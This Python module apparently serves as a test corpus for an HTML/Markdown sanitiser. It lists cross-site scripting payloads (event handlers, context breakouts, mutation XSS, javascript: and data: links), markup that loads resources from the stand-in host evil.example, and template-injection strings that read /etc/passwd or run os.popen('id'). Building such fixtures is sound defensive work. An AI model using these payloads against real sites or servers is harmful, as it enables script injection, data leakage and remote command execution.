"""Texts that make a careless page run a script or ask another host, by the kind of carelessness
that they count on.
"""

from collections.abc import Mapping

RUN = "window.pwned=1"
AWAY = "//evil.example/x"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\x0b>{RUN}</script\t\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script/x>{RUN}</script>",
    f"<script src={AWAY}></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x:x onerror\n=\n{RUN}>",
    f"<img src=`x`onerror={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div tabindex=0 autofocus onfocus={RUN} style=display:block>x</div>",
    f"<p style='animation:x' onanimationstart={RUN}>x</p>",
    f"<p popover id=p onbeforetoggle={RUN}>x</p><button popovertarget=p>x</button>",
    f"<custom-element onclick={RUN} tabindex=1 onfocus={RUN} autofocus>x</custom-element>",
    (
        f"<template><script>{RUN}</script></template><div shadowrootmode=open><img src=x"
        f" onerror={RUN}></div>"
    ),
)
"""Elements that run something by themselves."""

BREAKOUTS = (
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
    f"' onmouseover={RUN} autofocus onfocus={RUN} x='",
    f"` onmouseover={RUN} autofocus onfocus={RUN} x=`",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</noscript><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"?><script>{RUN}</script>",
    f"</code></pre></td></table></div></main></body></html><script>{RUN}</script>",
    f"</text></svg><script>{RUN}</script>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"';{RUN};//\";{RUN};//`;{RUN};//--></script>\">'><img src=x onerror={RUN}>",
    (
        f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN}"
        f" )//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd={RUN}//>"
    ),
)
"""Ends of whatever a text may stand in: attributes, comments, elements without markup, scripts."""

MUTATIONS = (
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x'
        f' onerror={RUN}&gt;">'
    ),
    f'<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img src=x onerror={RUN}>">',
    (
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img'
        f' onerror={RUN} src>">'
    ),
    f'<svg><desc><style><img title="</style><img src=x onerror={RUN}>"></style></desc></svg>',
    f'<svg><title><style><a title="</style></title></svg><img src=x onerror={RUN}>">',
    (
        "<svg><foreignObject><p><style><!--</style><img src=x"
        f" onerror={RUN}>--></p></foreignObject></svg>"
    ),
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<noembed><p title="</noembed><img src=x onerror={RUN}>"></noembed>',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    f'<textarea><p title="</textarea><img src=x onerror={RUN}>"></textarea>',
    (
        '<select><template><style><!--</style><a rel="--></style></template></select><img src=x'
        f' onerror={RUN}>">'
    ),
    f'<table><td><a title="</td></table><img src=x onerror={RUN}>">x</a></td></table>',
    f'<a title="<table><img src=x onerror={RUN}>">x</a>',
    f"<ol start=\"1 onfocus={RUN}\"><li title='</li></ol><img src=x onerror={RUN}>'>x</ol>",
    (
        f'<details open="><img src=x onerror={RUN}>"><summary title="</summary><svg'
        f' onload={RUN}>">x</summary></details>'
    ),
    (
        f'<p><svg><a xlink:href="javascript:{RUN}"><text>x</text></a><animate attributeName=href'
        f" values=javascript:{RUN} /></svg>"
    ),
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    (
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image"
        f" href='1' onerror='{RUN}'/></svg>#x\"/></svg>"
    ),
    f"<svg><set attributeName=onmouseover to={RUN}><script href=data:,{RUN} /></svg>",
    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]>&y;",
    f"<?xml-stylesheet href='javascript:{RUN}'?><x/>",
    f'<h2 id="text-x" id="&quot;><img src=x onerror={RUN}>">x</h2>',
    f'<a><p></a><table><a><tr><p title="</table><img src=x onerror={RUN}>">',
)
"""Markup that is harmless when it is read once, and something else when what a sanitiser wrote is
read again.
"""

REQUESTS = (
    f"<img src={AWAY}><img srcset='{AWAY} 1x, {AWAY} 2x'><picture><source srcset={AWAY}></picture>",
    f"![x](https:{AWAY}) ![x][y]\n\n[y]: https:{AWAY}",
    (
        f"<link rel=stylesheet href={AWAY}><link rel=preload as=image href={AWAY}><link"
        f" rel=prefetch href={AWAY}>"
    ),
    f"<base href=https:{AWAY}/><a href=x>x</a>",
    f"<meta http-equiv=refresh content='0;url=https:{AWAY}'>",
    "<meta http-equiv=Set-Cookie content=pwned=1><meta name=referrer content=unsafe-url>",
    f"<style>@import 'https:{AWAY}';*{{background:url(https:{AWAY})}}</style>",
    f'<p style="background:url(https:{AWAY});list-style:url({AWAY});content:url({AWAY})">x</p>',
    (
        "<p style='position:fixed;inset:0;z-index:9;background:red' class='md-search'"
        " id='__search'>x</p>"
    ),
    f'<iframe src=https:{AWAY}></iframe><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=https:{AWAY}></object><embed src=https:{AWAY}><applet code={AWAY}></applet>",
    (
        f"<form action=https:{AWAY}><input name=x><button"
        f" formaction=javascript:{RUN}>x</button></form>"
    ),
    (
        f"<video poster={AWAY} src={AWAY} autoplay></video><audio src={AWAY}"
        f" autoplay></audio><track src={AWAY}>"
    ),
    f"<body background={AWAY}><table background={AWAY}><td background={AWAY}>x</td></table>",
    (
        f"<svg><image href=https:{AWAY} /><feImage href=https:{AWAY} /><use href=https:{AWAY}#x"
        " /></svg>"
    ),
    f"<a href=https://example.com ping=https:{AWAY} target=_top>x</a>",
    (
        f"<html manifest={AWAY}><script"
        f' type=speculationrules>{{"prefetch":[{{"urls":["{AWAY}"]}}]}}</script>'
    ),
)
"""Markup that asks another host, or takes a reader there."""

LINKS = tuple(
    form.format(link)
    for link in (
        *(
            f"javascript:{RUN}",
            f"JaVaScRiPt:{RUN}",
            f"java\tscript:{RUN}",
            f"java&#10;script:{RUN}",
            f"&#106;avascript:{RUN}",
        ),
        *(
            f"javascript&colon;{RUN}",
            f"javascript&#58;{RUN}",
            f"\x01javascript:{RUN}",
            f"&#14;javascript:{RUN}",
            f"javascript\x0b:{RUN}",
        ),
        *(
            f"javascript://example.com/%0a{RUN}",
            f"%6aavascript:{RUN}",
            f"\u202ejavascript:{RUN}",
            f"java\u200bscript:{RUN}",
        ),
        *(
            "vbscript:x",
            f"data:text/html,<script>{RUN}</script>",
            "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
        ),
        *(
            f"data:image/svg+xml,<svg onload={RUN}>",
            "blob:https://example.com/x",
            f"view-source:javascript:{RUN}",
            f"livescript:{RUN}",
        ),
        *(
            f"feed:javascript:{RUN}",
            "file:///etc/passwd",
            "intent://x#Intent;end",
            "https://bank.example@evil.example/",
            AWAY,
        ),
    )
    for form in ("[x](<{}>)", "[x]({})", '<a href="{}">x</a>', "<{}>")
)
"""Addresses that are no address, in every form of a link."""

TEMPLATES = (
    *(
        "{{7*7}}",
        "{% import os %}{{ os.popen('id') }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{{7*7}}}",
        "[[7*7]]",
        "@(7*7)",
        "*{7*7}",
    ),
    (
        "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ config }}{{ self }}{% include"
        " '/etc/passwd' %}{# x #}"
    ),
    "{0.__class__.__init__.__globals__} %(message)s %s {message}",
    (
        f"{{{{constructor.constructor('{RUN}')()}}}}<p ng-app ng-csp x-data x-init={RUN}"
        f" v-html={RUN}>x</p>"
    ),
    (
        f"<div data-md-component=search data-clipboard-text={RUN} hx-get={AWAY}"
        " hx-trigger=load>x</div>"
    ),
)
"""Orders to templates, on the server and in the browser."""

KINDS: Mapping[str, tuple[str, ...]] = {
    "elements": ELEMENTS,
    "breakouts": BREAKOUTS,
    "mutations": MUTATIONS,
    "requests": REQUESTS,
    "links": LINKS,
    "templates": TEMPLATES,
}
